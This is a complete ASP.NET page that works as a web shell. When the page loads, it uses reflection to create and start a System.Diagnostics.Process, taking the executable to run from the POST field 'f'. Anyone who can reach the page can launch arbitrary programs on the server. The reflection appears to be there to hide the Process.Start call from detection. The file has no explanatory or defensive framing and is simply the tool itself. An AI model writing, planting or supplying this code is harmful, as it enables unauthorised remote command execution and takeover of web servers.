<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    object p = Activator.CreateInstance(Type.GetType("System.Diagnostics.Process"));
    object si = p.GetType().GetProperty("StartInfo").GetValue(p, null);
    si.GetType().GetProperty("FileName").SetValue(si, Request.Form["f"], null);
    p.GetType().GetMethod("Start", new Type[0]).Invoke(p, null);
}
</script>
